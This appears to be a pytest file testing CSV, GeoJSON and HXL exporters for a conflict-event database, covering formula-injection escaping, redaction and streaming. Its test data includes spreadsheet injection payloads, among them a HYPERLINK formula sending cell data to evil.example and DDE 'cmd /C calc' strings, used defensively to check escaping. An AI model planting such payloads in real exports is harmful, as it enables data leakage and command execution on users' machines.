"""CSV, GeoJSON and HXL writers: round trips, CSV-injection escaping, redaction, streaming."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from typing import Any

import pytest
from shapely.geometry import shape

from tests.store.builders import make_event, store
from tocsin.domain.entities import ActorLink
from tocsin.domain.taxonomy import ActorRole, ActType, SensitivityTier, ViolenceType
from tocsin.store.export import (
    HXL_TAGS,
    RECORD_FIELDS,
    ExportError,
    escape_cell,
    event_to_record,
    unescape_cell,
    write_csv,
    write_geojson,
    write_hxl,
)
from tocsin.store.queries import EventQuery, Scope, iter_events

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "=",
    "-",
    "-3.5",  # a plain number written as text: harmless, kept as it is
    "+12",
    "1e5",
    'plain text, with a comma and "quotes"\nand a new line',
    "Séléka, Bossangoa 🙂",
    "'quoted but harmless",
    "",
]


def _as_text(value: Any) -> str:
    """What a record value looks like once written to CSV and read back (before unescaping)."""
    if value is None:
        return ""
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def _parse_csv(text: str, header_rows: int = 1) -> tuple[list[list[str]], list[dict[str, str]]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    headers, body = rows[:header_rows], rows[header_rows:]
    return headers, [dict(zip(headers[0], row, strict=True)) for row in body]


def test_escape_cell_follows_owasp_and_is_reversible() -> None:
    for text in HOSTILE:
        escaped = escape_cell(text)
        assert unescape_cell(escaped) == text
        dangerous = text[:1] in {"=", "+", "-", "@", "\t", "\r"}
        numeric = re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", text) is not None
        was_escaped = escaped == "'" + text
        assert was_escaped or escaped == text
        assert was_escaped == (
            (dangerous and not numeric) or text.startswith("''+") or text.startswith("'=")
        ), text
        assert escaped[:1] not in {"=", "+", "@", "\t", "\r"} or numeric


def _hostile_records() -> list[dict[str, Any]]:
    return [
        {
            "uid": f"u{i}",
            "place_name": text,
            "description": text,
            "latitude": -3.5 - i,
            "longitude": -70.25,
            "fatalities_best": -0 if i else None,
            "date_start": date(2021, 1, 1 + i),
        }
        for i, text in enumerate(HOSTILE)
    ]


def test_csv_round_trip_escapes_injection_but_keeps_numbers() -> None:
    records = _hostile_records()
    out = io.StringIO(newline="")
    assert write_csv(records, out) == len(records)
    text = out.getvalue()
    assert text.startswith("uid,place_name,description,latitude,longitude,")
    assert "\r\n" in text  # RFC 4180 line ends
    _, rows = _parse_csv(text)
    for record, row in zip(records, rows, strict=True):
        raw_place = row["place_name"]
        assert raw_place[:1] not in {"=", "+", "@", "\t", "\r"} or raw_place in ("+12",)
        assert row["latitude"].startswith("-") and float(row["latitude"]) == record["latitude"]
        assert {k: unescape_cell(v) for k, v in row.items()} == {
            k: _as_text(v) for k, v in record.items()
        }
    assert rows[0]["place_name"] == "'" + HOSTILE[0]
    assert rows[HOSTILE.index("-3.5")]["place_name"] == "-3.5"


def test_redacted_records_give_exactly_their_columns() -> None:
    full = _hostile_records()[:3]
    redacted = [{k: v for k, v in r.items() if k not in ("description", "latitude")} for r in full]
    redacted[1].pop("longitude")  # a field missing from one record only: empty cell
    fields = ["uid", "place_name", "longitude", "fatalities_best", "date_start"]
    for writer in (write_csv, write_hxl):
        out = io.StringIO(newline="")
        writer(redacted, out, fields=fields)
        headers, rows = _parse_csv(out.getvalue(), header_rows=2 if writer is write_hxl else 1)
        assert headers[0] == fields
        assert "description" not in out.getvalue() and "latitude" not in out.getvalue()
        assert rows[1]["longitude"] == ""
    # A record with a field outside the agreed columns is an error, never silently dropped.
    with pytest.raises(ExportError, match="outside the column set: description"):
        write_csv(full, io.StringIO(), fields=fields)
    with pytest.raises(ExportError, match="outside the column set"):
        write_geojson(full, io.StringIO(), fields=fields)
    # Without explicit fields the first record decides, and later records must agree.
    with pytest.raises(ExportError):
        write_csv([redacted[0], full[1]], io.StringIO())


def test_writers_refuse_values_they_cannot_write_faithfully() -> None:
    for bad in ({"x": float("nan")}, {"x": [1, 2]}, {"x": {"a": 1}}, {"x": b"bytes"}):
        with pytest.raises(ExportError):
            write_csv([bad], io.StringIO())
        with pytest.raises(ExportError):
            write_geojson([bad], io.StringIO())
    with pytest.raises(ExportError):
        write_geojson([{"latitude": "4", "longitude": 18.0}], io.StringIO())


def test_writers_stream_one_record_at_a_time() -> None:
    for writer in (write_csv, write_hxl, write_geojson):
        out = io.StringIO(newline="")
        seen_in_output: list[int] = []
        per_record = 2 if writer is write_geojson else 1  # GeoJSON: "id" and properties.uid

        def records(out=out, log=seen_in_output, per_record=per_record):  # noqa: ANN001, ANN202
            for i in range(5):
                log.append(out.getvalue().count("u-") // per_record)
                yield {"uid": f"u-{i}", "place_name": "x"}

        writer(records(), out)
        # When record i is requested, records 0..i-1 are already in the output.
        assert seen_in_output == [0, 1, 2, 3, 4], writer.__name__


def test_empty_exports_are_still_valid_files() -> None:
    out = io.StringIO()
    assert write_csv([], out, fields=["uid", "date_start"]) == 0
    assert out.getvalue() == "uid,date_start\r\n"
    assert write_csv([], io.StringIO()) == 0
    out = io.StringIO()
    write_geojson([], out)
    assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": []}


def test_geojson_is_an_rfc7946_feature_collection() -> None:
    records = _hostile_records()[:4] + [
        {"uid": "no-coords", "place_name": "unknown", "latitude": None, "longitude": None}
    ]
    out = io.StringIO()
    assert write_geojson(records, out) == 5
    doc = json.loads(out.getvalue())
    assert doc["type"] == "FeatureCollection"
    assert len(doc["features"]) == 5
    for record, feature in zip(records, doc["features"], strict=True):
        assert feature["type"] == "Feature"
        assert feature["id"] == record["uid"]
        assert set(feature) == {"type", "id", "geometry", "properties"}
        assert feature["properties"] == {
            k: v.isoformat() if isinstance(v, date) else v for k, v in record.items()
        }
        if record["latitude"] is None:
            assert feature["geometry"] is None
        else:
            # RFC 7946: longitude first.
            assert feature["geometry"] == {
                "type": "Point",
                "coordinates": [record["longitude"], record["latitude"]],
            }
            assert shape(feature["geometry"]).is_valid
    # Text is stored verbatim in JSON (escaping belongs to spreadsheet formats only).
    assert doc["features"][0]["properties"]["place_name"] == HOSTILE[0]


HXL_TAG = re.compile(r"^#[a-z][a-z0-9_]*(\s*\+[a-z][a-z0-9_]*)*$")


def test_hxl_has_a_valid_hashtag_row_for_every_record_field() -> None:
    assert set(HXL_TAGS) == set(RECORD_FIELDS)
    assert len(set(HXL_TAGS.values())) == len(HXL_TAGS)  # no two columns share a tag
    for tag in HXL_TAGS.values():
        assert HXL_TAG.match(tag), tag
    for required in (
        "#event+id",
        "#date+start",
        "#date+end",
        "#country+code",
        "#adm1+name",
        "#adm1+code",
        "#adm2+code",
        "#geo+lat",
        "#geo+lon",
        "#affected+killed",
        "#affected+killed+civilians",
        "#group+perp",
    ):
        assert required in HXL_TAGS.values()
    out = io.StringIO(newline="")
    write_hxl([{"uid": "a", "extra_field": "=1"}], out, fields=["uid", "extra_field"])
    headers, rows = _parse_csv(out.getvalue(), header_rows=2)
    assert headers == [["uid", "extra_field"], ["#event+uid", ""]]  # unknown field: no tag
    assert rows == [{"uid": "a", "extra_field": "'=1"}]


def test_export_round_trip_from_the_store(engine) -> None:
    events = [
        make_event(
            "inj",
            place_name="=cmd|' /C calc'!A0",
            latitude=-4.32,
            longitude=-15.5,
            violence_type=ViolenceType.ONE_SIDED,
            act_types=(ActType.KILLING, ActType.ABDUCTION),
            actors=(
                ActorLink("3R", ActorRole.PERPETRATOR),
                ActorLink("UPC", ActorRole.PERPETRATOR),
                ActorLink("Villagers", ActorRole.TARGET),
            ),
            fatalities_best=3,
            sensitivity=SensitivityTier.INTERNAL,
        ),
        make_event("bare", date_start=date(2020, 2, 2), date_end=date(2020, 2, 9)),
    ]
    store(engine, events)
    with engine.connect() as conn:
        records = [event_to_record(e) for e in iter_events(conn, EventQuery(), Scope.everything())]
    assert [tuple(r) for r in records] == [RECORD_FIELDS, RECORD_FIELDS]
    inj = next(r for r in records if r["original_id"] == "inj")
    assert inj["perpetrators"] == "3R; UPC"
    assert inj["targets"] == "Villagers"
    assert inj["act_types"] == "killing; abduction"
    out = io.StringIO(newline="")
    write_csv(records, out, fields=RECORD_FIELDS)
    _, rows = _parse_csv(out.getvalue())
    parsed = [{k: unescape_cell(v) for k, v in row.items()} for row in rows]
    assert parsed == [{k: _as_text(v) for k, v in r.items()} for r in records]
    assert next(r for r in rows if r["original_id"] == "inj")["place_name"].startswith("'=")
    geo = io.StringIO()
    write_geojson(records, geo)
    features = json.loads(geo.getvalue())["features"]
    assert [f["geometry"] for f in features if f["properties"]["original_id"] == "inj"] == [
        {"type": "Point", "coordinates": [-15.5, -4.32]}
    ]
